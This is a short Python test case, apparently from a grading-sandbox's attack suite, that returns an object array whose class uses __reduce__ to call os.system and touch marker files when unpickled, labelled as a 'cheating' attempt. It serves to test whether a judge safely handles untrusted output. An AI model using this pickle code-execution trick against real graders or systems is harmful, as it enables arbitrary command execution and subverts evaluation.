# attack: an object array whose unpickling would run a shell command writing marker files
# category: cheating
# expect: WA|RE
import json
import os

import numpy as np

MARKERS = json.loads('__TJ_MARKERS__')


class Evil:
    def __reduce__(self):
        return (os.system, (" ; ".join(f"touch {m}" for m in MARKERS),))

    def __float__(self):
        return 0.0


def double(x):
    return np.array([Evil() for _ in range(x.size)], dtype=object)
